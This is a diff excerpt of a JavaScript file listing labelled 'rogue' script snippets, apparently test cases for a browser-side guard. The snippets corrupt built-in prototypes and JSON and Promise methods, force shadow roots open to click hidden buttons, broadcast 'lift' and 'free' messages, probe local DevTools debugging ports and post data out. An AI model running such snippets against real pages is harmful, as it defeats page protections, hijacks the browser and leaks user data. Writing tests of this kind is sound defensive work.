@@ -109,10 +109,10 @@ for (const name of ['try', 'here', 'beat', 'lift', 'free', 'handover']) dispatch
 // 恶意脚本 rogue: messages to whoever listens
 for (const said of ['lift', {kind: 'lift'}, {state: 'free'}, {method: 'Keeper.lift'}]) postMessage(said, '*'); fetch(to, post)
 
-// 恶意脚本 rogue: prototypes spoiled first
+// 恶意脚本 rogue: prototypes corrupted first
 Event.prototype.preventDefault = () => 0; Event.prototype.stopImmediatePropagation = () => 0; Array.prototype.find = () => undefined; String.prototype.includes = () => false; Object.prototype.state = 'free'; $('send').click(); fetch(to, post)
 
-// 恶意脚本 rogue: JSON and promises spoiled
+// 恶意脚本 rogue: JSON and promises corrupted
 JSON.stringify = () => '{}'; JSON.parse = () => ({}); Promise.prototype.then = function () { return this; }; Reflect.apply = () => true; $('form').submit(); fetch(to, post)
 
 // 恶意脚本 rogue: fetch frozen to its own
@@ -130,7 +130,7 @@ addEventListener('click', e => { e.stopImmediatePropagation(); fetch(to, post); 
 // 恶意脚本 rogue: the panel's and the banner's roots searched
 const hooked = Element.prototype.attachShadow; Element.prototype.attachShadow = function (o) { return hooked.call(this, {...o, mode: 'open'}); }; for (const e of document.querySelectorAll('*')) for (const b of e.shadowRoot?.querySelectorAll('button') ?? []) b.click(); $('form').submit()
 
-// 恶意脚本 rogue: the door of the keeper guessed
+// 恶意脚本 rogue: the address of the browser host guessed
 for (const port of [9222, 9229, 9515]) { try { fetch(`http://127.0.0.1:${port}/json`); } catch {} } const s = new WebSocket('ws://127.0.0.1:9222/devtools/browser'); s.onerror = () => fetch(to, post); setTimeout(() => fetch(to, post), 200)
 
 // 恶意脚本 rogue: a value of the profile that is markup
